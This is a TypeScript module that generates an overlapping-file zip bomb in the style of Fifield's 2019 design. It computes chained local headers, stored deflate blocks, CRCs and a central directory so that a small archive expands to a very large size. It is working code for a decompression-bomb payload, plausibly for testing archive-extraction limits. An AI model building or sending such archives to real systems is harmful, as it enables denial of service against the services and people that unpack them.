// Fifield-style overlapping zip bomb ("A better zip bomb", 2019), deflate flavour:
// file i's compressed data = a non-final stored deflate block quoting local header i+1,
// followed by file i+1's compressed data ... ending with one shared kernel (final block).
// Every entry declares its true sizes and CRC, no two entries share an offset.
import { crc32, deflateRawSync } from 'node:zlib';

export function fifield(names: string[], kernelData: Buffer): Buffer {
  const N = names.length;
  const kernel = deflateRawSync(kernelData, { level: 9 }); // ends with a final block
  const nameB = names.map((n) => Buffer.from(n));
  // uncompressed content of file i = LH(i+1) + ... + LH(N-1) + kernelData
  // local header bytes need sizes/crc which depend on the content: compute from the back.
  const lh: Buffer[] = new Array(N);
  const usize: number[] = new Array(N);
  const csize: number[] = new Array(N);
  const crc: number[] = new Array(N);
  // crc over content: build incrementally from the back (content_i = LH(i+1) + content_{i+1})
  let contentCrc = crc32(kernelData);
  let contentLen = kernelData.length;
  let compLen = kernel.length;
  for (let i = N - 1; i >= 0; i--) {
    usize[i] = contentLen;
    csize[i] = compLen;
    crc[i] = contentCrc;
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(0x800, 6);
    h.writeUInt16LE(8, 8);
    h.writeUInt32LE(crc[i]! >>> 0, 14);
    h.writeUInt32LE(csize[i]!, 18);
    h.writeUInt32LE(usize[i]!, 22);
    h.writeUInt16LE(nameB[i]!.length, 26);
    lh[i] = Buffer.concat([h, nameB[i]!]);
    // content of file i-1 = lh[i] + content_i ; crc32(buf, prev) continues a CRC, so compute by prefixing:
    // crc32 can only append, so recompute from scratch for the prefix form below.
    contentLen += lh[i]!.length;
    compLen += 5 + lh[i]!.length;
    contentCrc = -1; // placeholder, recomputed below
    if (i > 0) {
      // recompute crc of (lh[i] + ... + lh[N-1] + kernelData)
      let c = crc32(lh[i]!);
      for (let j = i + 1; j < N; j++) c = crc32(lh[j]!, c);
      contentCrc = crc32(kernelData, c);
    }
  }
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let off = 0;
  for (let i = 0; i < N; i++) {
    offsets.push(off);
    parts.push(lh[i]!);
    off += lh[i]!.length;
    if (i < N - 1) {
      const q = Buffer.alloc(5);
      q.writeUInt8(0, 0);
      q.writeUInt16LE(lh[i + 1]!.length, 1);
      q.writeUInt16LE(~lh[i + 1]!.length & 0xffff, 3);
      parts.push(q);
      off += 5;
    }
  }
  parts.push(kernel);
  off += kernel.length;
  const cdStart = off;
  for (let i = 0; i < N; i++) {
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(0x031e, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(0x800, 8);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(crc[i]! >>> 0, 16);
    c.writeUInt32LE(csize[i]!, 20);
    c.writeUInt32LE(usize[i]!, 24);
    c.writeUInt16LE(nameB[i]!.length, 28);
    c.writeUInt32LE((0o100644 * 65536) >>> 0, 38);
    c.writeUInt32LE(offsets[i]!, 42);
    parts.push(c, nameB[i]!);
    off += 46 + nameB[i]!.length;
  }
  const e = Buffer.alloc(22);
  e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(N, 8);
  e.writeUInt16LE(N, 10);
  e.writeUInt32LE(off - cdStart, 12);
  e.writeUInt32LE(cdStart, 16);
  parts.push(e);
  return Buffer.concat(parts);
}
